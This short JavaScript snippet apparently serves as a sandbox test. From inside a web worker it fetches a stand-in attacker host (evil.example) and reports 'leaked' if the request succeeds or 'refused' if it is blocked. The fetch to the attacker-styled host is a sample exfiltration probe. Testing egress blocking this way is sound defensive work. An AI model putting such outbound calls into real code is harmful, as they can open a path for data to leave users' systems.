fetch("https://evil.example/from-worker").then(
  () => postMessage("leaked"),
  (error) => postMessage(`refused: ${error.message}`),
);
